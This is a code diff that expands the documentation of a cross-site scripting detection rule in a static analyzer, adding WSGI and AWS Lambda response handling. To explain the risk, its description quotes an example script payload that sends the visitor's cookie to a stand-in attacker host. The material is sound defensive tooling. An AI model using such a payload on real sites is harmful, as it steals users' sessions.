@@ -18,7 +18,7 @@ export default defineFlowRule({
     fixable: false,
     docs: {
       whatItDoes:
-        'Flags request data that reaches an HTML response without escaping: a string a Flask view returns, `make_response`/`Response`, Django `HttpResponse`, `mark_safe`, `format_html` used with data as its template, `Markup`, Starlette `HTMLResponse`, aiohttp `web.Response(content_type="text/html")`, Tornado `self.write`, `http.server` handlers writing to `wfile`.',
+        'Flags request data that reaches an HTML response without escaping: a string a Flask view returns, `make_response`/`Response`, Django `HttpResponse`, `mark_safe`, `format_html` used with data as its template, `Markup`, Starlette `HTMLResponse`, aiohttp `web.Response(content_type="text/html")`, Tornado `self.write`, `http.server` handlers writing to `wfile`, the items a plain WSGI app returns or yields and the `"body"` of an AWS Lambda proxy response, when the app declares `Content-Type: text/html`.',
       whyIsThisBad:
         "The browser cannot tell the page's markup from the data pasted into it: a value such as `<script>fetch('//evil.example/?c='+document.cookie)</script>` runs as the page's own script, with the visitor's session (cross-site scripting). A crafted link is enough to attack anyone who opens it.",
       example: [
@@ -55,7 +55,7 @@ export default defineFlowRule({
         'https://docs.djangoproject.com/en/stable/ref/utils/#django.utils.html.format_html',
       ],
       knownProblems:
-        'A response Vigil cannot see is HTML (a `Response` with a JSON or text content type set later, a view whose return value a decorator turns into JSON) may be flagged; `jsonify`, `JsonResponse`, dictionaries and lists returned from Flask views are not. Escaping functions Vigil knows: `markupsafe.escape`, `html.escape`, Django `escape`/`conditional_escape`, `bleach.clean`, `urllib.parse.quote`.',
+        'A response Vigil cannot see is HTML (a `Response` with a JSON or text content type set later, a view whose return value a decorator turns into JSON) may be flagged; `jsonify`, `JsonResponse`, dictionaries and lists returned from Flask views are not. A WSGI app counts as HTML when its own text names `text/html`, or the module does and the app names no other content type; a Lambda function only when its own text names `text/html` (API Gateway sends a proxy response without a `Content-Type` as JSON). Escaping functions Vigil knows: `markupsafe.escape`, `html.escape`, Django `escape`/`conditional_escape`, `bleach.clean`, `urllib.parse.quote`.',
     },
   },
 });
